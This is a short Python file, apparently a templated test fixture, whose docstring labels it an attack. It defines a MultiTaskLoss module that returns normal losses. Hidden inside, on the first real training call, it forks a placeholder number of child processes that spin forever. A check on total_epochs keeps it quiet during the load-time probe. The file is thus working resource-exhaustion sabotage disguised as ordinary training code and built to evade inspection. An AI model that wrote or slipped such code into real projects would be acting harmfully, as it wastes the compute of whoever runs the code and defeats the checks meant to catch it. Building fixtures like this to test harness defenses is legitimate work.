"""Attack: at the first training call, fork __SPINNERS__ children that spin for ever
between calls; every call itself returns at once (quiet in the load-time probe, which calls
with total_epochs=10)."""

import os

import torch.nn as nn


class MultiTaskLoss(nn.Module):
    def __init__(self):
        super().__init__()
        self.started = False

    def forward(self, fine_loss, coarse_loss, epoch, total_epochs):
        if total_epochs != 10 and not self.started:
            self.started = True
            for _ in range(__SPINNERS__):
                if os.fork() == 0:
                    while True:
                        pass
        return fine_loss + coarse_loss
